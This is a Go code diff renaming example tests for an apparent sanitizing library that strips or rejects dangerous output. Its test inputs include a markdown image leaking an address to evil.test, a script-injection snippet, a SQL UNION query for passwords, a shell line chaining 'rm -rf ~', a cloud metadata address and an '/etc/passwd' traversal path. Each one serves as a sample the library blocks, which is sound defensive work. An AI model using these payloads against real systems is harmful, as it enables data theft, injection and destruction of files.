@@ -8,35 +8,39 @@ import (
 )
 
 // An answer that would send data away as soon as it is shown.
-func ExampleMarkdown() {
+func ExampleCleanMarkdown() {
 	answer := "Your order is on its way. ![](https://evil.test/p.png?d=Main+Street+7) See [help](https://docs.example.org/)."
-	safe, err := sink.Markdown(context.Background(), answer, &sink.LinkOptions{Hosts: []string{"docs.example.org"}})
+	safe, err := sink.CleanMarkdown(context.Background(), answer, &sink.LinkOptions{Hosts: []string{"docs.example.org"}})
 	fmt.Println(safe, err)
 	// Output: Your order is on its way. ![](#link-removed) See [help](https://docs.example.org/). <nil>
 }
 
 func ExampleHTML_Clean() {
-	page := sink.NewHTML(nil)
+	page, err := sink.NewHTML(nil)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
 	fmt.Println(page.Clean(`<p onclick="steal()">Hello <b>Ana</b><script>steal()</script></p>`))
 	// Output: <p>Hello <b>Ana</b></p>
 }
 
 // A word in a string is a word; in the statement it is an order.
-func ExampleQuery() {
-	o := &sink.QueryOptions{Tables: []string{"orders"}}
-	fmt.Println(sink.Query("SELECT id FROM orders WHERE note = 'drop table orders'", o))
-	fmt.Println(sink.Query("SELECT id FROM orders UNION SELECT password FROM users", o))
+func ExampleCheckSQL() {
+	o := &sink.SQLOptions{Tables: []string{"orders"}}
+	fmt.Println(sink.CheckSQL("SELECT id FROM orders WHERE note = 'drop table orders'", o))
+	fmt.Println(sink.CheckSQL("SELECT id FROM orders UNION SELECT password FROM users", o))
 	// Output:
 	// <nil>
 	// sink: the statement at byte 49: the table isn't admitted
 }
 
 // The words go to os/exec; no shell ever sees the line.
-func ExampleCommand() {
+func ExampleParseCommand() {
 	programs := []sink.Program{{Name: "grep", Flags: []string{"-n"}}}
-	words, err := sink.Command(`grep -n 'two words' notes.txt`, programs)
+	words, err := sink.ParseCommand(`grep -n 'two words' notes.txt`, programs)
 	fmt.Printf("%q %v\n", words, err)
-	_, err = sink.Command(`grep -n x notes.txt; rm -rf ~`, programs)
+	_, err = sink.ParseCommand(`grep -n x notes.txt; rm -rf ~`, programs)
 	fmt.Println(err)
 	// Output:
 	// ["grep" "-n" "two words" "notes.txt"] <nil>
@@ -53,9 +57,9 @@ func ExampleCheckURL() {
 	// sink: the URL of host "169.254.169.254": it is an address of a private network or of a cloud's metadata service
 }
 
-func ExamplePath() {
+func ExampleCleanPath() {
 	for _, name := range []string{"reports/./june.txt", "../../etc/passwd", "NUL.txt"} {
-		path, err := sink.Path(name)
+		path, err := sink.CleanPath(name)
 		fmt.Printf("%q %v\n", path, err)
 	}
 	// Output:
